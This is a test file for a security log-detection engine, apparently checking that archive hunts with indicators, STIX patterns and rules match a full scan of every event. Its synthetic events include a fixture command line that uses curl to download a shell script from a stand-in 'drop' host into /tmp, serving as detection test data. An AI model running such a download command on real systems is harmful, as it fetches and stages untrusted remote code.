/** Looking back: the archive's own answers against a plain look at every event; parts that are not opened; going on after a break. */

import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openArchiveReader, openArchiveWriter } from '../archive/index.ts';
import type { Alert, ArchiveReader, DecodedEvent } from '../core/index.ts';
import { createEngine } from './detection-engine.ts';
import { huntIndicators } from './detection-hunt-indicators.ts';
import { type HuntOptions, huntRules } from './detection-hunt-run.ts';
import { evaluatePlain } from './detection-plain.ts';
import type { IndicatorRecord } from './indicators/indicator-import.ts';
import { createFinder } from './indicators/indicator-match.ts';
import { buildIndicators, openIndicators } from './indicators/indicator-set.ts';
import { readStixPattern } from './indicators/indicator-stix.ts';
import { readIndicator } from './indicators/indicator-value.ts';
import { sampleEvent, sampleRules } from './testing/detection-samples.ts';

const STREAM = 'aaaaaaaa';
const T0 = Date.UTC(2026, 0, 5, 8);
let dir = '';
/** Parts as they were written, and the same events in files with side indexes. */
let archive: ArchiveReader;
let sealed: ArchiveReader;
const events: DecodedEvent[] = [];

/** What stands in few events: IPv6, digests, whole URLs, addresses of people, URLs in command lines, any spelling. */
const oddOf = (hour: number, i: number): DecodedEvent['norm'] =>
  [
    { dst_ip: `2001:DB8:${hour}::${(i % 9) + 1}`, host: 'fw' },
    { hash: `${'AB'.repeat(15)}0${hour}`, host: 'ws-1' },
    { url: `https://Files.h${hour}.example:8443/get/${i % 5}?k=1`, host: 'proxy' },
    { user: `Person${i % 3}@clinic${hour}.example`, host: 'mail' },
    { command_line: `curl http://drop${hour}.example/x.sh -o /tmp/x`, host: 'ws-2' },
    { src_host: `PC.h${hour}.example`, src_ip: `::ffff:203.0.113.${hour}`, host: 'dc' },
  ][i % 6] as DecodedEvent['norm'];

/** Six hours of log-ins, proxies and processes, one part an hour. */
function hourOf(hour: number): DecodedEvent[] {
  return Array.from({ length: 430 }, (_, i) => {
    const timeMs = T0 + hour * 3_600_000 + i * 5000;
    const kind = i < 400 ? i % 3 : 3;
    const image = `C:\\Tools\\app${i % 9}.exe`;
    const event = sampleEvent(kind === 2 ? { Image: image, CommandLine: `${image} -x ${i}` } : {}, {
      timeMs,
      receivedMs: timeMs,
      format: 'test/mixed',
      logsource: kind === 2 ? { product: 'windows', category: 'process_creation' } : { product: 'test' },
      norm:
        kind === 0
          ? {
              src_ip: `10.0.${hour}.${i % 200}`,
              user: `u${i % 7}`,
              outcome: i % 30 === 0 ? 'failure' : 'success',
              host: 'srv',
            }
          : kind === 1
            ? { src_ip: '10.1.1.1', domain: `host${i % 50}.h${hour}.example`, url: `/p${i % 11}`, host: 'proxy' }
            : kind === 2
              ? { process: image, command_line: `${image} -x ${i}`, host: `ws-${i % 4}` }
              : oddOf(hour, i),
    });
    return { ...event, seq: hour + 1, index: i, raw: JSON.stringify({ ...event.norm, ...event.fields }) };
  });
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'asepsis-hunt-'));
  for (let hour = 0; hour < 6; hour++) events.push(...hourOf(hour));
  const clock = { now: () => T0 + 86_400_000 };
  const build = async (name: string, seal: boolean): Promise<ArchiveReader> => {
    const own = { dir: join(dir, name), streamId: STREAM, clock };
    const writer = await openArchiveWriter({ ...own, retentionDays: 36_500, upkeep: { sealRows: 1 } });
    for (let hour = 0; hour < 6; hour++) {
      const list = events.filter(({ seq }) => seq === hour + 1);
      await writer.append(list, hour + 1);
      await (seal ? writer.settle() : writer.flush());
    }
    await writer.close();
    return openArchiveReader(own);
  };
  archive = await build('hot', false);
  sealed = await build('sealed', true);
});
afterAll(async () => {
  await archive.close();
  await sealed.close();
  await rm(dir, { recursive: true });
});

const setOf = (...values: string[]) => ({
  set: openIndicators(
    buildIndicators(
      values.map((value) => ({
        ...(readIndicator(value) as IndicatorRecord),
        source: 'list',
        confidence: 60,
        untilMs: null,
      })),
    ),
  ),
  patterns: [],
});
function options(raised: Alert[], more: Partial<HuntOptions> = {}): HuntOptions {
  return {
    fromMs: 0,
    toMs: Number.MAX_SAFE_INTEGER,
    deep: false,
    streamId: STREAM,
    done: new Set(),
    signal: new AbortController().signal,
    onAlerts: async (alerts) => void raised.push(...alerts),
    onParts: async () => {},
    ...more,
  };
}

test('indicators in the archive are those that a look at every event finds', async () => {
  const stored = setOf(
    '10.0.2.9',
    '10.0.4.0/25',
    'h3.example',
    'http://host1.h1.example/p1',
    'not.there.example',
    '203.0.113.9',
  );
  const raised: Alert[] = [];
  const progress = await huntIndicators(archive.parts, stored, options(raised));
  const finder = createFinder(stored.set);
  const found = new Set(
    events.flatMap((event) =>
      finder.find(event).map(({ index }) => `${stored.set.at(index).type} ${stored.set.at(index).value}`),
    ),
  );
  expect(new Set(raised.flatMap(({ matched }) => matched.map(({ words }) => words[0])))).toEqual(found);
  expect(found.size).toBe(4);
  expect(raised.every((alert) => alert.retrospective)).toBe(true);
  expect(new Set(raised.map(({ id }) => id)).size).toBe(raised.length);
  expect(progress.rows).toBe(events.length);
  expect(progress.eventsRead).toBeLessThan(events.length / 2);
  const deep: Alert[] = [];
  await huntIndicators(archive.parts, stored, options(deep, { deep: true }));
  expect(new Set(deep.map(({ id }) => id))).toEqual(new Set(raised.map(({ id }) => id)));
});

test('what side indexes say, distinct values and a look at every record find the same', async () => {
  const pool = [
    '10.0.2.8',
    '10.0.4.0/25',
    '10.0.0.0/14',
    '10.0.3.128/27',
    '2001:db8:3::2',
    '2001:db8:2::/56',
    '2001:db8::/31',
    'h3.example',
    'host1.h1.example',
    'http://host1.h1.example/p1',
    `${'ab'.repeat(15)}04`,
    'files.h2.example',
    'http://files.h2.example:8443/get/3',
    'http://files.h4.example:8443/get/3?k=1',
    'person0@clinic5.example',
    'http://drop1.example/x.sh',
    'drop4.example',
    '203.0.113.5',
    '203.0.113.0/30',
    'pc.h0.example',
    'not.there.example',
    '203.0.113.77',
    `${'cd'.repeat(16)}`,
  ];
  await fc.assert(
    fc.asyncProperty(fc.subarray(pool, { minLength: 1, maxLength: 5 }), async (values) => {
      const stored = setOf(...values);
      const idsOf = async (from: ArchiveReader, deep: boolean) => {
        const raised: Alert[] = [];
        const progress = await huntIndicators(from.parts, stored, options(raised, { deep }));
        return { ids: raised.map(({ id }) => id).sort(), progress };
      };
      const every = await idsOf(archive, true);
      const plain = await idsOf(archive, false);
      const quick = await idsOf(sealed, false);
      expect(plain.ids).toEqual(every.ids);
      expect(quick.ids).toEqual(every.ids);
      if (every.ids.length === 0 && !values.includes('2001:db8::/31'))
        expect(quick.progress.partsSkipped).toBe(quick.progress.parts);
    }),
    { numRuns: 15 },
  );
});

test('patterns that are more than values are hunted for', async () => {
  const patterns = [
    "[process:command_line MATCHES 'drop[24]' AND process:command_line LIKE '%/tmp/x']",
    "[domain-name:value = 'host3.h2.example' AND network-traffic:src_ref.value = '10.1.1.1']",
    "[user-account:user_id LIKE 'Person0@%' AND ipv4-addr:value NOT ISSUBSET '10.0.1.0/24']",
  ];
  for (const from of [archive, sealed]) {
    for (const pattern of patterns) {
      const one = { pattern, name: 'a pattern', source: 'list', confidence: 60, untilMs: null };
      const raised: Alert[] = [];
      const progress = await huntIndicators(from.parts, { ...setOf(), patterns: [one] }, options(raised));
      const read = readStixPattern(pattern);
      const matching = events.filter((event) => read.kind === 'expr' && evaluatePlain(read.expr, event, true));
      const slots = matching.map((event) => `${event.norm.host} ${Math.floor(event.timeMs / 3_600_000)}`);
      expect(matching.length, pattern).toBeGreaterThan(0);
      expect(raised, pattern).toHaveLength(new Set(slots).size);
      expect(progress.eventsRead, pattern).toBeLessThan(events.length);
    }
  }
});

test.each([
  ['a column', 'logsource: { product: test }\ndetection: { s: { outcome: failure }, condition: s }'],
  ['a network', 'logsource: { product: test }\ndetection: { s: { src_ip|cidr: 10.0.3.0/26 }, condition: s }'],
  [
    'a text of the record',
    "logsource: { product: windows, category: process_creation }\ndetection: { s: { CommandLine|contains: '-x 77' }, condition: s }",
  ],
  [
    'a path',
    "logsource: { product: windows, category: process_creation }\ndetection: { s: { Image|endswith: '\\app4.exe' }, f: { CommandLine|endswith: '1' }, condition: s and not f }",
  ],
  [
    'alternatives',
    "logsource: { product: test }\ndetection: { a: { user: u3 }, b: { domain|endswith: '.h5.example' }, condition: a or b }",
  ],
  ['a number', 'logsource: { product: test }\ndetection: { s: { src_port|gt: 1 }, condition: s }'],
  ['a keyword', 'logsource: { product: test }\ndetection: { k: [ host44.h2 ], condition: k }'],
])('a rule over %s finds what the engine finds on every event', async (_, body) => {
  const rules = sampleRules(`title: T\nid: hunted\n${body}\n`);
  const raised: Alert[] = [];
  await huntRules(archive.parts, rules, { ...options(raised), state: null });
  const engine = createEngine(rules, { streamId: STREAM });
  const expected = events.flatMap((event) => engine.feed(event).map(({ id }) => id));
  expect(raised.map(({ id }) => id).sort()).toEqual(expected.sort());
});

test('a correlation counts over parts, also when the hunt was broken off between them', async () => {
  const rules = sampleRules(
    `title: F\nname: f\nlogsource: { product: test }\ndetection: { s: { outcome: failure }, condition: s }\n---\ntitle: Many\nid: many\ncorrelation: { type: event_count, rules: [f], group-by: [host], timespan: 2h, condition: { gte: 15 } }\n`,
  );
  const whole: Alert[] = [];
  await huntRules(archive.parts, rules, { ...options(whole), state: null });
  const first: Alert[] = [];
  const done = new Set<string>();
  let state: Uint8Array | null = null;
  const stop = new AbortController();
  const broken = huntRules(archive.parts, rules, {
    ...options(first, {
      batchRows: 1,
      signal: stop.signal,
      onParts: async (ids, _, after) => {
        for (const id of ids) done.add(id);
        state = after;
        if (done.size === 1) stop.abort(new Error('broken off'));
      },
    }),
    state: null,
  });
  await expect(broken).rejects.toThrow('broken off');
  const second: Alert[] = [];
  await huntRules(archive.parts, rules, { ...options(second, { done }), state });
  expect([...first, ...second].map(({ id }) => id)).toEqual(whole.map(({ id }) => id));
  expect(whole.length).toBeGreaterThan(0);
});

test('what upkeep merges away meanwhile is looked at in what it became', async () => {
  const stored = setOf('10.0.2.9', '10.0.4.0/25', 'h3.example');
  const whole: Alert[] = [];
  await huntIndicators(archive.parts, stored, options(whole));
  let asked = 0;
  // The second question is answered as if the parts had just been merged away; the list names them again.
  const moving = {
    ...archive.parts,
    distinct: (...args: Parameters<typeof archive.parts.distinct>) =>
      ++asked === 2 ? Promise.resolve(null) : archive.parts.distinct(...args),
  };
  const raised: Alert[] = [];
  const progress = await huntIndicators(moving, stored, options(raised, { batchRows: 1 }));
  expect(new Set(raised.map(({ id }) => id))).toEqual(new Set(whole.map(({ id }) => id)));
  expect([progress.partsDone, progress.rows]).toEqual([6, events.length]);
});

test('parts in which no value can match are not opened', async () => {
  const raised: Alert[] = [];
  const rules = sampleRules(
    'title: T\nid: none\nlogsource: { product: test }\ndetection: { s: { user: nobody, outcome: failure }, condition: s }\n',
  );
  const progress = await huntRules(archive.parts, rules, { ...options(raised), state: null });
  expect(raised).toEqual([]);
  expect(progress.eventsRead).toBe(0);
});
